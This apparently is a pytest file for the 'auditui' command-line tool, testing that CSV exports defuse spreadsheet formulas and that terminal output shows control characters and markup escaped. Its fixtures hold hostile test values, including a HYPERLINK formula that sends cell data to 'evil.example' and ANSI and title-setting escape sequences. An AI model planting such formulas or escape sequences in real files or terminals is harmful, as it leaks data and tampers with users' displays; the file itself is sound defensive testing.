"""Issue 12 item 10: every CSV a command writes is formula-safe, and no terminal sees raw controls.

A team called ``=HYPERLINK(...)`` or an action text ``=1+2`` must reach a
spreadsheet as text; an owner name carrying ``ESC [31m`` or a Rich markup
tag must reach a terminal as visible characters, never as a colour change
or a crash. The commands run as real `auditui` subprocesses (``run_cli``).
"""

from __future__ import annotations

import csv
import io
import subprocess
from collections.abc import Callable

import pytest

from auditui.cli.context import terminal_text
from auditui.export.cells import csv_line, value_cell

Result = subprocess.CompletedProcess[str]
RunCli = Callable[..., Result]

TEAM = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
OWNER = "-Bob"
TEXT = "+1+2\n@SUM(A1) \x1b[31mRED\x1b]0;owned\x07"


def _ok(result: Result) -> str:
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr + result.stdout
    return result.stdout


@pytest.fixture
def hostile_audit(run_cli: RunCli) -> str:
    audit_id = _ok(
        run_cli(
            "audit", "new", "--tool", "smart-plans", "--case", "CF1", "--case-type", "CP",
            "--team", TEAM, "--practitioner", "-Pat", "--auditor", "@Sam",
        )
    ).strip()  # fmt: skip
    _ok(run_cli("action", "add", audit_id, "--owner", OWNER, "--text", TEXT))
    return audit_id


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_actions_csv_escapes_formulas_as_export_csv_does(
    run_cli: RunCli, hostile_audit: str
) -> None:
    out = _ok(run_cli("actions", "--format", "csv"))
    (row,) = _rows(out)
    assert row["team"] == "'" + TEAM
    assert row["text"] == "'" + TEXT
    assert row["owner"] == "'" + OWNER
    assert "\x1b[31mRED" in row["text"]  # data through a pipe stays exactly as stored
    assert row["audit_id"] == hostile_audit
    assert int(row["working_days_left"]) > 0  # numbers stay bare numbers
    assert out.startswith('"id","audit_id"')


def test_audit_list_csv_escapes_formulas(run_cli: RunCli, hostile_audit: str) -> None:
    (row,) = _rows(_ok(run_cli("audit", "list", "--format", "csv")))
    assert (row["team"], row["practitioner"], row["auditor"]) == ("'" + TEAM, "'-Pat", "'@Sam")
    assert (row["id"], row["practitioner_present"], row["complete"]) == (
        hostile_audit,
        "true",
        "false",
    )


def test_tables_show_control_characters_escaped_and_markup_as_typed(
    run_cli: RunCli, hostile_audit: str
) -> None:
    _ok(
        run_cli(
            "audit", "new", "--tool", "smart-plans", "--case", "CF2", "--case-type", "CP",
            "--team", "[/x]", "--practitioner", "[bold]P",
        )
    )  # fmt: skip
    for args in (("actions",), ("audit", "list"), ("audit", "show", hostile_audit)):
        out = _ok(run_cli(*args))
        assert "\x1b" not in out and "\x07" not in out, args
    assert "\\x1b[31mRED" in _ok(run_cli("actions", "--format", "table"))
    assert "[/x]" in _ok(run_cli("audit", "list"))
    shown = _ok(run_cli("audit", "show", hostile_audit))
    assert "-Bob: +1+2" in shown and "@SUM(A1) \\x1b[31mRED\\x1b]0;owned\\x07" in shown


def test_a_refusal_naming_a_hostile_value_prints_it_escaped(run_cli: RunCli) -> None:
    result = run_cli("audit", "show", "no\x1b[2Jsuch")
    assert result.returncode == 1 and "\x1b" not in result.stderr
    assert "no\\x1b[2Jsuch" in result.stderr


def test_terminal_text_escapes_every_control_and_keeps_lines_only_when_asked() -> None:
    assert terminal_text("a\x1b[31mb\tc\nd\x9b\u202e\x7f") == "a\\x1b[31mb\\tc\\nd\\x9b\\u202e\\x7f"
    assert terminal_text("x\r\ny\rz\n\x00", lines=True) == "x\r\ny\\rz\n\\x00"
    assert terminal_text(None) == ""
    for code in [*range(0x20), *range(0x7F, 0xA0)]:
        assert chr(code) not in terminal_text(f"<{chr(code)}>")


def test_value_cells_are_export_cells() -> None:
    assert csv_line(["=1", None, True, 3, -2.5, "a,b"]) == '"\'=1",,true,3,-2.5,"a,b"\r\n'
    assert value_cell(1e-7) == "0.0000001" and value_cell(2.0) == "2"


def _on_a_terminal(args: list[str], env: dict[str, str]) -> bytes:
    """What `auditui ARGS` prints when its standard output is a terminal (a real pty)."""
    import os
    import pty
    import sys

    leader, follower = pty.openpty()
    try:
        child = subprocess.Popen(
            [sys.executable, "-m", "auditui", *args],
            stdout=follower,
            stderr=subprocess.PIPE,
            env=env,
        )
        os.close(follower)
        shown = b""
        while True:
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # the child closed the terminal
                break
            if not chunk:
                break
            shown += chunk
        assert child.wait(timeout=60) == 0, child.stderr.read() if child.stderr else ""
    finally:
        os.close(leader)
    return shown


def test_csv_and_json_on_a_terminal_show_controls_escaped(
    hostile_audit: str, child_env: dict[str, str]
) -> None:
    for args in (
        ["actions", "--format", "csv"],
        ["actions", "--format", "json"],
        ["export", "csv", "--table", "actions"],
    ):
        shown = _on_a_terminal(args, child_env)
        assert b"\x1b" not in shown and b"\x07" not in shown, args
        assert b"\\x1b[31mRED" in shown or b"\\u001b[31mRED" in shown, (args, shown[-300:])
